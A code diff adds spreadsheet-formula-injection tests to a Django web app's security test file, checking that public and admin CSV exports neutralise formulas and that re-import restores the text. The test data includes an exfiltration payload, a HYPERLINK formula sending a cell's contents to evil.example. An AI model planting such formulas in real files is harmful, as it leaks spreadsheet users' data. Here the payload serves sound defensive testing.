@@ -1,5 +1,7 @@
 """Brute force, forged addresses and what the public may not learn."""
 
+import csv
+import io
 import logging
 import os
 import re
@@ -8,6 +10,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from tests.factories import EditorFactory
@@ -139,3 +142,51 @@ def test_hsts_is_sent_over_https_once_configured(client, report, settings):
     response = client.get("/", secure=True)
     assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
     assert "Strict-Transport-Security" not in client.get("/")
+
+
+# Spreadsheet formulas ------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_a_formula_in_a_source_is_inert_in_the_public_csv(client, report):
+    from market.models import MarketFigure
+
+    MarketFigure.objects.filter(report=report, year=2030, segment=None).update(source=FORMULA)
+    body = client.get(f"{report.get_absolute_url()}data.csv").content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+
+
+def test_admin_export_neutralises_formulas_and_its_re_import_restores_the_text(editor, report):
+    from market.models import MarketFigure
+
+    figure = MarketFigure.objects.filter(report=report, segment=None).first()
+    MarketFigure.objects.filter(pk=figure.pk).update(source=FORMULA, note="-5 % on 2023 @ cost")
+    columns = ["report", "segment", "year", "value", "kind", "source", "note", "version"]
+    exported = editor.post(
+        "/admin/market/marketfigure/export/",
+        {"format": "0", **{f"marketfigureresource_{c}": "on" for c in columns}},
+    ).content.decode()
+    rows = csv.DictReader(io.StringIO(exported))
+    row = next(r for r in rows if r["year"] == str(figure.year) and not r["segment"])
+    assert row["source"] == f"'{FORMULA}"
+    assert row["note"] == "'-5 % on 2023 @ cost"
+
+    row["note"] = "'-6 % on 2023 @ cost"
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=list(row))
+    writer.writeheader()
+    writer.writerow(row)
+    upload = SimpleUploadedFile("figures.csv", out.getvalue().encode(), content_type="text/csv")
+    preview = editor.post(
+        "/admin/market/marketfigure/import/", {"import_file": upload, "format": 0}
+    )
+    confirm = preview.context["confirm_form"]
+    editor.post(
+        "/admin/market/marketfigure/process_import/",
+        {name: confirm[name].value() for name in confirm.fields},
+    )
+    figure.refresh_from_db()
+    assert (figure.source, figure.note) == (FORMULA, "-6 % on 2023 @ cost")
